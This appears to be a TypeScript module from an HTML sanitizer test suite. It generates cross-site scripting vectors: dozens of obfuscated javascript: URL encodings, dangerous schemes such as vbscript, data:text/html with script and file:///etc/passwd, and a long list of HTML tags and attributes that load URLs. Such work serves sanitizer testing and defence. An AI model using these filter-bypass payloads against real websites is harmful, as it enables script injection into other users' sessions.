import { cross, list, spelled, vector, type Payload } from './vector.js';

const inside = (text: string, what: string) => `${text.slice(0, 4)}${what}${text.slice(4)}`;

/** Ways to write an address so that a browser still reads it as one, or that were meant to be. */
const ENCODINGS: Readonly<Record<string, (address: string) => string>> = {
  'as it is': (address) => address,
  'in capitals': (address) => address.replace('javascript', 'JAVASCRIPT'),
  'in mixed case': (address) => address.replace('javascript', 'jAvaScRipT'),
  'in decimal references': (address) => spelled(address, (code) => `&#${code};`),
  'in decimal references without semicolon': (address) => spelled(address, (code) => `&#0${code}`),
  'in padded decimal references': (address) => spelled(address, (code) => `&#${String(code).padStart(9, '0')};`),
  'in hexadecimal references': (address) => spelled(address, (code) => `&#x${code.toString(16)};`),
  'in hexadecimal references without semicolon': (address) => spelled(address, (code) => `&#X${code.toString(16)}`),
  'with its first letter as a reference': (address) => `&#106;${address.slice(1)}`,
  'with a named colon': (address) => address.replace(':', '&colon;'),
  'with named parentheses': (address) => address.replace('(', '&lpar;').replace(')', '&rpar;'),
  'with a tab inside': (address) => inside(address, '\t'),
  'with a line feed inside': (address) => inside(address, '\n'),
  'with a carriage return inside': (address) => inside(address, '\r\n'),
  'with a named tab inside': (address) => inside(address, '&Tab;'),
  'with a named line feed inside': (address) => inside(address, '&NewLine;'),
  'with tabs between all letters': (address) => spelled(address, (_, letter) => `${letter}&#9;`),
  'with a tab before the colon': (address) => address.replace(':', '\t:'),
  'with a NUL inside': (address) => inside(address, '\0'),
  'with a referenced NUL inside': (address) => inside(address, '&#0;'),
  'with a soft hyphen inside': (address) => inside(address, '\u00ad'),
  'with a space of no width inside': (address) => inside(address, '\u200b'),
  'after spaces': (address) => `   \n\t${address}`,
  'after control characters': (address) => `&#1;&#2;&#14;&#27;&#31;${address}`,
  'after raw control characters': (address) => `\x01\x08\x1f ${address}`,
  'after a space that does not break': (address) => `\u00a0${address}`,
  'after a byte order mark': (address) => `\ufeff${address}`,
  'after a line separator': (address) => `\u2028${address}`,
  'in letters of full width': (address) => spelled(address.slice(0, 10), (code) => String.fromCharCode(code + 0xfee0)) + address.slice(10),
  'with a long s': (address) => address.replace('s', '\u017f'),
  'with a dotless i': (address) => address.replace('i', '\u0131'),
  'in percent encoding': (address) => `%6a%61vascript:${address.slice(11)}`,
  'with its code in percent encoding': (address) => `javascript:${spelled(address.slice(11), (code) => `%${code.toString(16)}`)}`,
  'escaped twice': (address) => `&amp;#106;${address.slice(1)}`,
  'as a comment of a host': (address) => address.replace(':', '://example.com/%0a'),
  'behind a comment': (address) => address.replace(':', ':/*/**/'),
  'behind an http address in a comment': (address) => address.replace(':', ':/*https://www.boras.se/*/'),
  'as what stands after a fragment': (address) => `#${address}`,
  'without quotes': (address) => `"x=" ${address}`,
};

/** Schemes that show, run or reach something else than a page, a letter or a telephone. */
const SCHEMES: Readonly<Record<string, (payload: Payload) => string>> = {
  vbscript: ({ call }) => `vbscript:${call}`,
  livescript: ({ call }) => `livescript:${call}`,
  mocha: ({ call }) => `mocha:${call}`,
  'javascript as a worklet': ({ call }) => `javascript&colon;void ${call}//`,
  'data, a page': ({ call }) => `data:text/html,<script>parent.${call}</script>`,
  'data, a page in base64': ({ call }) => `data:text/html;base64,${btoa(`<script>parent.${call}</script>`)}`,
  'data, a drawing': ({ call }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${call}'/>`,
  'data, xhtml': ({ call }) => `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>parent.${call}</script></html>`,
  'data, a script': ({ call }) => `data:text/javascript,${call}`,
  'data without a type': ({ call }) => `data:,${call}`,
  'data in mixed case': ({ call }) => `DaTa:text/html,<script>parent.${call}</script>`,
  blob: () => `blob:${location.origin}/0f0f0f0f-0000-4000-8000-000000000000`,
  file: () => 'file:///etc/passwd',
  ftp: () => 'ftp://127.0.0.1/x',
  filesystem: () => `filesystem:${location.origin}/temporary/x`,
  'view-source': ({ here }) => `view-source:${here}`,
  about: () => 'about:blank',
  'jar of an address': ({ here }) => `jar:${here}!/x`,
  'feed of javascript': ({ call }) => `feed:javascript:${call}`,
  'ws, a socket': ({ here }) => here.replace('http', 'ws'),
  'an app of the device': () => 'intent://x#Intent;scheme=http;end',
  'a setting of the device': () => 'ms-settings:privacy',
  'a chat': () => 'sms:+4633000000?body=x',
  'an unknown one': () => 'web+nyhet:x',
  'none, with a colon': () => ':javascript',
  'an address that is none': () => 'https://[x',
  'a host without end': () => `https://${'x'.repeat(300)}`,
  'a host with a space': () => 'https://a b/',
};

/** Where an address may stand that is fetched, followed or sent to; `%` is its place. */
const PLACES = list(`
  <area~href="%"> <map~name="m"><area~href="%"></map><img~usemap="#m"~alt="x"> <form~action="%"><input~type="submit"></form>
  <button~formaction="%">x</button> <input~type="image"~src="%"> <input~type="submit"~formaction="%"> <iframe~src="%"></iframe>
  <frameset><frame~src="%"></frameset> <embed~src="%"> <object~data="%"></object> <object~codebase="%"~classid="x"></object>
  <object><param~name="movie"~value="%"></object> <applet~archive="%"~codebase="%"~code="x"></applet> <video~src="%"~autoplay></video>
  <video~poster="%"></video> <video~autoplay><source~src="%"></video> <video><track~src="%"~default></video> <audio~src="%"~autoplay></audio>
  <img~src="%"> <img~srcset="%"> <img~srcset="%~2x"~alt="x"> <img~longdesc="%"> <img~lowsrc="%"> <img~dynsrc="%"> <image~src="%">
  <picture><source~srcset="%"><img~alt="x"></picture> <body~background="%"> <table~background="%"><tr><td>x</td></tr></table>
  <table><tr><td~background="%">x</td></tr></table> <link~rel="stylesheet"~href="%"> <link~rel="icon"~href="%"> <script~src="%"></script>
  <script~type="module"~src="%"></script> <base~href="%"><img~src="x"> <a~href="/x"~ping="%">x</a> <a~xlink:href="%">x</a> <blockquote~cite="%">x</blockquote>
  <q~cite="%">x</q> <ins~cite="%">x</ins> <html~manifest="%"> <head~profile="%"></head> <iframe~srcdoc="<img~src='%'>"></iframe>
  <bgsound~src="%"> <layer~src="%"></layer> <isindex~action="%"> <meta~http-equiv="refresh"~content="0;url=%"> <portal~src="%"></portal>
  <fencedframe~src="%"></fencedframe> <svg><a~xlink:href="%"><text~y="20">x</text></a></svg> <svg><image~href="%"></image></svg>
  <svg><use~href="%#x"></use></svg> <svg><script~href="%"></script></svg> <svg><feImage~href="%"></feImage></svg>
  <svg><foreignObject><img~src="%"></foreignObject></svg> <math~href="%"><mi>x</mi></math> <math><mi~xlink:href="%">x</mi></math>
  <menuitem~icon="%"></menuitem> <a~href="/x"~attributionsrc="%">x</a> <img~attributionsrc="%"~alt="x"> <div~itemscope~itemid="%">x</div>
  <input~type="text"~list="%"> <style>@import~"%";</style> <div~style="background:url('%')">x</div>`).map((place) => place.replaceAll('~', ' '));

export const addresses = [
  ...Object.entries(ENCODINGS).map(([name, write]) => vector(`javascript ${name} as a link`, ({ call }) => `<p><a href="${write(`javascript:${call}`)}">Text</a></p>`)),
  ...Object.entries(ENCODINGS).map(([name, write]) => vector(`javascript ${name} as a frame`, ({ call }) => `<iframe title="x" src="${write(`javascript:parent.${call}`)}"></iframe>`)),
  ...cross(Object.entries(SCHEMES), ['<a href="%">Text</a>', '<img src="%" alt="Text">', '<iframe src="%"></iframe>'], ([name, write], place) =>
    vector(`${name} in ${place}`, (payload) => place.replaceAll('%', () => write(payload)))),
];

export const places = [
  ...PLACES.map((place) => vector(`javascript in ${place}`, ({ call }) => place.replaceAll('%', `javascript:${call}`))),
  ...PLACES.map((place) => vector(`an address elsewhere in ${place}`, ({ here }) => place.replaceAll('%', here))),
  ...PLACES.slice(0, 30).map((place) => vector(`an address without scheme in ${place}`, ({ there }) => place.replaceAll('%', there.replace('http:', '')))),
];
